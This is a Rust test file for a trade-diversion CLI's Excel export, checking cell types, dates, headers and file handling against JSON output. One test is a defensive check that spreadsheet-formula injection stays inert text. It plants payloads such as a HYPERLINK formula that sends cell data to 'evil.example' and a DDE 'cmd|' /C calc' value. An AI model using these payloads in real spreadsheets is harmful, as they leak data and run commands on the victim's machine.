//! `--format xlsx`: the workbooks of `assess`, `routes`, `hubs` and `screen`
//! opened by a real reader (openpyxl, in the test venv) — cell values and
//! types, dates, frozen header, column widths, and hostile text that must
//! stay a string cell, never a formula.

mod common;

use std::ffi::OsString;
use std::path::{Path, PathBuf};

use common::*;
use serde_json::Value;

/// What openpyxl sees: per sheet its name, frozen cell, column widths and
/// every cell as [value, data type, number format] (dates as ISO text).
const DUMP: &str = r#"
import json, sys, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = []
for ws in wb.worksheets:
    rows = []
    for row in ws.iter_rows():
        cells = []
        for c in row:
            v = c.value
            if isinstance(v, datetime.datetime):
                v = v.date().isoformat()
            cells.append([v, c.data_type, c.number_format])
        rows.append(cells)
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    out.append({"name": ws.title, "freeze": ws.freeze_panes, "filter": ws.auto_filter.ref, "widths": widths, "rows": rows})
print(json.dumps(out))
"#;

fn read_workbook(path: &Path) -> Vec<Value> {
    let o = std::process::Command::new(python()).arg("-c").arg(DUMP).arg(path).output().expect("python runs");
    assert!(o.status.success(), "openpyxl could not read {}: {}", path.display(), String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice::<Value>(&o.stdout).unwrap().as_array().unwrap().clone()
}

fn os(args: &[&str]) -> Vec<OsString> {
    args.iter().map(OsString::from).collect()
}

const QUERY: [&str; 8] = ["--from", "country:US", "--from", "origin:US", "--to", "country:RU", "--to", "country:BY"];

/// Runs `cmd --case CASE extra...` twice: as JSON (the oracle) and as an xlsx.
fn both(case: &Path, cmd: &str, extra: &[OsString], xlsx: &Path) -> (Value, Vec<Value>) {
    let mut a = os(&[cmd, "--case"]);
    a.push(case.into());
    a.extend(extra.iter().cloned());
    let mut j = a.clone();
    j.extend(os(&["--format", "json"]));
    let json: Value = serde_json::from_str(&divtrace(&j).ok().stdout).unwrap();
    a.extend(os(&["--format", "xlsx", "--out"]));
    a.push(xlsx.into());
    let r = divtrace(&a).ok();
    assert_eq!(r.stdout, "", "an xlsx prints nothing");
    (json, read_workbook(xlsx))
}

fn sheet<'a>(wb: &'a [Value], name: &str) -> &'a Value {
    wb.iter().find(|s| s["name"] == name).unwrap_or_else(|| panic!("no sheet {name}"))
}

/// The rows of a sheet below its header, and the header's column of `name`.
fn col(s: &Value, name: &str) -> usize {
    s["rows"][0].as_array().unwrap().iter().position(|c| c[0] == name).unwrap_or_else(|| panic!("no column {name}"))
}

fn body(s: &Value) -> &[Value] {
    &s["rows"].as_array().unwrap()[1..]
}

fn assert_sheet_basics(s: &Value) {
    assert_eq!(s["freeze"], "A2", "{}: the header row is frozen", s["name"]);
    assert!(s["filter"].as_str().is_some_and(|f| f.starts_with("A1:")), "{}: the header filters", s["name"]);
    for h in s["rows"][0].as_array().unwrap() {
        assert_eq!(h[1], "s", "{}: header cells are text", s["name"]);
    }
    let widths = s["widths"].as_object().unwrap();
    assert!(!widths.is_empty() && widths.values().all(|w| w.as_f64().unwrap() >= 8.0 && w.as_f64().unwrap() <= 63.0), "{s}");
}

fn bundled_case(dir: &Path) -> PathBuf {
    ingest_case(dir, "../graphs/turkish-chips")
}

#[test]
fn assess_all_workbook_has_the_csv_rows_and_every_factor_with_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let case = bundled_case(tmp.path());
    let (json, wb) = both(&case, "assess", &os(&["--all"]), &tmp.path().join("assess.xlsx"));
    assert_eq!(wb.iter().map(|s| s["name"].as_str().unwrap()).collect::<Vec<_>>(), ["Assessments", "Factors"]);
    let rows = sheet(&wb, "Assessments");
    assert_sheet_basics(rows);
    let assessments = json["assessments"].as_array().unwrap();
    assert_eq!(body(rows).len(), assessments.len());
    let (entity, name, score, band) = (col(rows, "entity"), col(rows, "name"), col(rows, "score"), col(rows, "band"));
    for (r, a) in body(rows).iter().zip(assessments) {
        assert_eq!(r[entity][0], a["entity"]);
        assert_eq!(r[name], serde_json::json!([a["name"], "s", "General"]));
        assert_eq!(r[score][1], "n", "scores are numbers");
        assert_eq!(r[score][0].as_f64(), a["score"].as_f64());
        assert_eq!(r[band][0], a["band"]);
    }
    let factors = sheet(&wb, "Factors");
    assert_sheet_basics(factors);
    let all: Vec<(&Value, &Value)> =
        assessments.iter().flat_map(|a| a["factors"].as_array().unwrap().iter().map(move |f| (a, f))).collect();
    assert_eq!(body(factors).len(), all.len());
    assert!(!all.is_empty());
    let (code, weight, evidence) = (col(factors, "code"), col(factors, "weight"), col(factors, "evidence"));
    for (r, (a, f)) in body(factors).iter().zip(&all) {
        assert_eq!(r[col(factors, "entity")][0], a["entity"]);
        assert_eq!(r[code][0], f["code"]);
        assert_eq!((r[weight][1].as_str(), r[weight][0].as_f64()), (Some("n"), f["weight"].as_f64()));
        let ids: Vec<&str> = f["evidence"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
        assert_eq!(r[evidence][0].as_str().unwrap_or(""), ids.join(";"));
    }
}

#[test]
fn routes_all_workbook_has_every_hop_with_dates_numbers_and_source_lines() {
    let tmp = tempfile::tempdir().unwrap();
    let case = bundled_case(tmp.path());
    let mut q = os(&QUERY);
    q.push("--all".into());
    let (json, wb) = both(&case, "routes", &q, &tmp.path().join("routes.xlsx"));
    assert_eq!(wb.iter().map(|s| s["name"].as_str().unwrap()).collect::<Vec<_>>(), ["Hops", "Reasons"]);
    let hops = sheet(&wb, "Hops");
    assert_sheet_basics(hops);
    let routes = json["routes"].as_array().unwrap();
    assert!(routes.len() > 20);
    let all: Vec<(&Value, &Value)> = routes.iter().flat_map(|r| r["hops"].as_array().unwrap().iter().map(move |h| (r, h))).collect();
    assert_eq!(body(hops).len(), all.len());
    let c = |n| col(hops, n);
    for (row, (r, h)) in body(hops).iter().zip(&all) {
        assert_eq!(row[c("rank")][0].as_f64(), r["rank"].as_f64());
        assert_eq!(row[c("date")], serde_json::json!([h["date"], "d", "yyyy-mm-dd"]), "dates are dates");
        assert_eq!(row[c("shipment")][0], h["shipment"]);
        assert_eq!(row[c("shipper_name")][1], "s");
        // HS codes stay text: a leading zero must survive.
        assert_eq!(row[c("hs")], serde_json::json!([h["hs"], "s", "General"]));
        assert_eq!(row[c("value_usd")][0].as_f64(), h["value_usd"].as_f64());
        assert_eq!(row[c("source_file")][0], h["source_file"]);
        assert_eq!((row[c("source_line")][1].as_str(), row[c("source_line")][0].as_i64()), (Some("n"), h["source_line"].as_i64()));
        assert_eq!(row[c("declaration")][0], h["declaration"]);
    }
    let reasons = sheet(&wb, "Reasons");
    assert_sheet_basics(reasons);
    let n: usize = routes.iter().map(|r| r["reasons"].as_array().unwrap().len()).sum();
    assert_eq!(body(reasons).len(), n);
    let first = &routes[0]["reasons"][0];
    let row = &body(reasons)[0];
    assert_eq!(row[col(reasons, "code")][0], first["code"]);
    assert_eq!(row[col(reasons, "points")][0].as_i64(), first["points"].as_i64());
    let ids: Vec<&str> = first["evidence"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
    assert_eq!(row[col(reasons, "evidence")][0].as_str().unwrap_or(""), ids.join(";"));
}

#[test]
fn hubs_and_screen_workbooks_match_their_json() {
    let tmp = tempfile::tempdir().unwrap();
    let case = bundled_case(tmp.path());
    let (json, wb) = both(&case, "hubs", &os(&QUERY), &tmp.path().join("hubs.xlsx"));
    let hubs = sheet(&wb, "Hubs");
    assert_sheet_basics(hubs);
    assert_sheet_basics(sheet(&wb, "Countries"));
    let expected = json["hubs"].as_array().unwrap();
    assert!(!expected.is_empty());
    assert_eq!(body(hubs).len(), expected.len());
    for (row, h) in body(hubs).iter().zip(expected) {
        assert_eq!(row[col(hubs, "entity")][0], h["entity"]);
        assert_eq!(row[col(hubs, "value_usd")][0].as_f64(), h["value_usd"].as_f64());
        assert_eq!(row[col(hubs, "betweenness")][1], "n");
    }
    assert_eq!(body(sheet(&wb, "Countries")).len(), json["countries"].as_array().unwrap().len());

    let mut lists = Vec::new();
    for (flag, file) in [("--csl", "lists/csl/small.csv"), ("--sdn", "lists/ofac/sdn.csv"), ("--ftm", "lists/ftm/small.jsonl")] {
        lists.push(OsString::from(flag));
        lists.push(fixture(file).into_os_string());
    }
    // Screening stores accepted matches: the second run (xlsx) sees the same lists and finds the same.
    // The bundled case matches none of the list fixtures; resolve/dupes matches several.
    let dupes = tempfile::tempdir().unwrap();
    let case = ingest_case(dupes.path(), "resolve/dupes");
    let (json, wb) = both(&case, "screen", &lists, &tmp.path().join("screen.xlsx"));
    let m = sheet(&wb, "Matches");
    assert_sheet_basics(m);
    let expected = json["matches"].as_array().unwrap();
    assert!(!expected.is_empty());
    assert_eq!(body(m).len(), expected.len());
    assert_eq!(body(sheet(&wb, "Entries")).len(), expected.len());
    for (row, x) in body(m).iter().zip(expected) {
        assert_eq!(row[col(m, "entry")][0], x["entry"]);
        assert_eq!(row[col(m, "score")][1], "n");
        assert!((row[col(m, "score")][0].as_f64().unwrap() - x["score"].as_f64().unwrap()).abs() < 0.0005);
    }
}

#[test]
fn a_formula_in_a_name_stays_a_string_cell() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = tmp.path().join("formula");
    std::fs::create_dir(&bundle).unwrap();
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
    std::fs::write(
        bundle.join("entities.csv"),
        format!(
            "id,name,country,roles\nUS1,+Acme Semi,US,manufacturer\nTR1,\"{}\",TR,trader\nRU1,@SUM(1+1)*cmd|' /C calc'!A0,RU,end_user\n",
            evil.replace('"', "\"\"")
        ),
    )
    .unwrap();
    std::fs::write(
        bundle.join("shipments.csv"),
        "id,date,shipper,consignee,hs_code,value_usd,source\n\
         S1,2023-01-10,US1,TR1,854231,1000,-2+3\n\
         S2,2023-01-20,TR1,RU1,854231,1000,=1+1\n",
    )
    .unwrap();
    let case = tmp.path().join("case.db");
    let mut a = os(&["ingest"]);
    a.push(bundle.into());
    a.push("--case".into());
    a.push(case.clone().into());
    divtrace(&a).ok();
    let (_, wb) = both(&case, "routes", &os(&["--from", "country:US", "--to", "country:RU"]), &tmp.path().join("r.xlsx"));
    let hops = sheet(&wb, "Hops");
    let cells: Vec<&Value> = body(hops).iter().flat_map(|r| r.as_array().unwrap()).collect();
    for text in [evil, "+Acme Semi", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-2+3"] {
        let found: Vec<&&Value> = cells.iter().filter(|c| c[0] == text).collect();
        assert!(!found.is_empty(), "{text} is in the workbook as written");
        assert!(found.iter().all(|c| c[1] == "s"), "{text} must be a string cell: {found:?}");
    }
    assert!(cells.iter().all(|c| c[1] != "f"), "no formula cell at all");
    let (_, wb) = both(&case, "assess", &os(&["--all"]), &tmp.path().join("a.xlsx"));
    let names: Vec<&Value> = body(sheet(&wb, "Assessments")).iter().map(|r| &r[4]).collect();
    assert!(names.iter().any(|c| c[0] == evil && c[1] == "s"), "{names:?}");
}

#[test]
fn xlsx_needs_a_file_and_replaces_it_whole() {
    let tmp = tempfile::tempdir().unwrap();
    let case = bundled_case(tmp.path());
    let c = case.to_str().unwrap();
    for args in
        [vec!["assess", "--case", c, "--all", "--format", "xlsx"], vec!["assess", "--case", c, "--all", "--format", "xlsx", "--out", "-"]]
    {
        let r = divtrace(&args).failed();
        assert_eq!(r.code, 2, "{}", r.stderr);
        assert!(r.stderr.contains("--format xlsx writes a binary workbook") && r.stderr.contains("--out FILE.xlsx"), "{}", r.stderr);
        assert_eq!(r.stdout, "");
    }
    let r = divtrace(["assess", "--case", c, "--all", "--out", "x.xlsx"]).failed();
    assert!(r.stderr.contains("--out is for --format xlsx"), "{}", r.stderr);
    let out = tmp.path().join("book").join("routes.xlsx");
    let mut q = vec!["routes", "--case", c, "--group", "--format", "xlsx", "--out", out.to_str().unwrap()];
    q.extend(QUERY);
    let r = divtrace(&q).failed();
    assert!(r.stderr.contains("leave out --group and --explain"), "{}", r.stderr);
    assert!(!out.exists());
    // Written twice: the second replaces the first, no temporary file stays.
    q.retain(|a| *a != "--group");
    divtrace(&q).ok();
    divtrace(&q).ok();
    let names: Vec<String> =
        std::fs::read_dir(out.parent().unwrap()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into()).collect();
    assert_eq!(names, ["routes.xlsx"]);
    assert_eq!(&std::fs::read(&out).unwrap()[..2], b"PK");
}

#[test]
fn same_case_same_workbook_under_source_date_epoch() {
    let tmp = tempfile::tempdir().unwrap();
    let case = bundled_case(tmp.path());
    let run = |name: &str| {
        let out = tmp.path().join(name);
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_divtrace"))
            .args(["assess", "--all", "--format", "xlsx", "--case"])
            .arg(&case)
            .arg("--out")
            .arg(&out)
            .env("SOURCE_DATE_EPOCH", "1700000000")
            .output()
            .unwrap();
        assert!(o.status.success());
        std::fs::read(out).unwrap()
    };
    assert_eq!(run("a.xlsx"), run("b.xlsx"));
}
